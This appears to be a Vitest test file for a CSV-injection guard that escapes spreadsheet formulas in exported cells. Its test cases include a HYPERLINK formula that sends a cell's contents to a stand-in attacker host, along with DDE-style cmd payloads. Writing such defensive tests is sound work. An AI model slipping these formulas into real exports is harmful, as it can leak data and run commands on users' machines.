import { describe, expect, it } from 'vitest';
import { csvSafeRows, csvSafeText } from '../../src/common/csvSafe';

describe('csvSafeText', () => {
  it.each([
    '=HYPERLINK("https://attacker.example/?d="&A3,"Open")',
    '+cmd|" /C calc"!A0',
    '-2+3+cmd|" /C calc"!A0',
    '@SUM(1+1)*cmd|" /C calc"!A0',
    '\t=1+1',
    '\r=1+1',
  ])('makes %j text, not a formula', (cell) => {
    expect(csvSafeText(cell)).toBe(`'${cell}`);
  });

  it.each(['-6.36', '+33', '12', 'Steam Wallet Code', 'a=b', 'x@example.com', ''])(
    'leaves %j as it is',
    (cell) => {
      expect(csvSafeText(cell)).toBe(cell);
    },
  );
});

describe('csvSafeRows', () => {
  it('guards every string, nested ones and headers too, and keeps numbers and booleans', () => {
    const rows = csvSafeRows([
      { Title: '=1+1', Price: -5, Sellable: true, Nested: { inner: '@x', list: ['+y', 3] }, '=h': 'ok' },
    ]);
    expect(rows).toEqual([
      { Title: "'=1+1", Price: -5, Sellable: true, Nested: { inner: "'@x", list: ["'+y", 3] }, "'=h": 'ok' },
    ]);
  });
});
